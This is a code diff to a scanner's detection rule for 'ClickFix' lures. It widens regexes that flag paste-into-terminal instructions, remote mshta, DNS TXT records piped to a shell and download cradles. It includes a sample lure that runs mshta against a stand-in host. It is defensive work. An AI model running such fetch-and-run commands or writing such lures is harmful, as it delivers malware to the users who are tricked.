@@ -8,12 +8,12 @@ const MSHTA_REMOTE = /\bmshta(?:\.exe)?\s{1,3}["']?(?:https?:|vbscript:|javascri
 /** A DNS TXT record fetched and executed (`nslookup -q=txt … | iex`, `for /f … nslookup … do cmd /c`). */
 const DNS_TXT_EXEC = /\bnslookup\b[^\n]{0,120}-(?:q|querytype|type)\s{0,2}=\s{0,2}txt\b[^\n]{0,200}(?:\|\s{0,3}(?:iex|Invoke-Expression|(?:ba)?sh|cmd)\b|\bdo\s{1,3}(?:cmd|powershell|call)\b|\biex\b)|\bfor\s{1,3}\/f\b[^\n]{0,120}\bnslookup\b[^\n]{0,200}\bdo\s{1,3}(?:cmd|powershell|call|%)|\bdig\b[^\n]{0,80}\bTXT\b[^\n]{0,120}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z)?sh\b|Resolve-DnsName\b[^\n]{0,160}-Type\s{1,3}TXT\b[^\n]{0,200}\b(?:iex|Invoke-Expression)\b/i;
 /** "Copy and paste this into your terminal", "run this in PowerShell", "type it into the Run box". */
-const PASTE_INTO_SHELL = /\b(?:copy|paste|run|execute|enter|type)\b[^\n]{0,60}\b(?:in|into)\s{1,3}(?:a\s{1,3}|your\s{1,3}|the\s{1,3})?(?:new\s{1,3})?(?:terminal|powershell|command\s{1,3}prompt|cmd(?:\.exe)?|run\s{1,3}(?:dialog|box|window)|shell)\b/i;
+const PASTE_INTO_SHELL = /\b(?:copy|paste|run|execute|enter|type)\b[^\n]{0,60}\b(?:in|into)\s{1,3}(?:a\s{1,3}|your\s{1,3}|the\s{1,3})?(?:new\s{1,3})?(?:terminal|powershell|command\s{1,3}prompt|cmd(?:\.exe)?|run\s{1,3}(?:dialog|box|window)|shell)\b|\bpaste\b[^\n]{0,40}\b(?:and|then)\s{1,3}(?:press|hit)\s{1,3}(?:enter|return)\b/i;
 /** A remote fetch executed on the spot, somewhere near the lure. */
 const REMOTE_RUN_NEAR = /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|mshta|certutil\s{1,3}-urlcache|bitsadmin)\b[^\n]{0,200}(?:\||\biex\b|&&|;)|powershell(?:\.exe)?\s[^\n]{0,80}-(?:e|ec|enc|encodedcommand)\s{1,3}[A-Za-z0-9+/=]{16,}/i;
 
 /** Why the lure says the command is needed: fix, verify, unlock, prove you are human. */
-const LURE_PRETEXT = /\b(?:fix|repair|verify|verification|captcha|human|unlock|activate|restore|resolve|troubleshoot|if\s{1,3}(?:it|this|the\s{1,3}\w{1,20})\s{1,3}(?:fails?|doesn'?t|does\s{1,3}not|cannot|can'?t|is\s{1,3}not))\b/i;
+const LURE_PRETEXT = /\b(?:fix|repair|verify|verification|captcha|human|unlock|activate|restore|resolve|troubleshoot|out\s{1,3}of\s{1,3}date|outdated|broken|damaged|corrupt(?:ed)?|expired|if\s{1,3}(?:it|this|the\s{1,3}\w{1,20})\s{1,3}(?:fails?|doesn'?t|does\s{1,3}not|cannot|can'?t|is\s{1,3}not))\b/i;
 
 /**
  * ClickFix: the reader is told to paste a one-line command into the Run dialog or a terminal "to
@@ -31,7 +31,7 @@ const clickfixRule = defineRegexRule({
       'ClickFix lures have the user open the Run dialog or a terminal and paste a command that fetches and runs the payload (PowerShell download cradles, mshta with a URL, a DNS TXT record piped to the shell). Remote mshta and DNS-TXT execution are critical on their own; "paste this into your terminal" is high when a fetch-and-run command is near, medium otherwise.',
     example: 'Press Win+R and paste: mshta https://fix.test/verify.hta',
   },
-  triggers: ['win', 'run dialog', 'run box', 'run window', '⊞', 'mshta', 'nslookup', 'dig', 'resolve-dnsname', 'terminal', 'powershell', 'command prompt', 'cmd', 'shell'],
+  triggers: ['win', 'run dialog', 'run box', 'run window', '⊞', 'mshta', 'nslookup', 'dig', 'resolve-dnsname', 'terminal', 'powershell', 'command prompt', 'cmd', 'shell', 'paste'],
   patterns: [RUN_DIALOG, MSHTA_REMOTE, DNS_TXT_EXEC, PASTE_INTO_SHELL],
   views: ['raw', 'normalized', 'decoded'],
   refine(hit, m, ctx) {
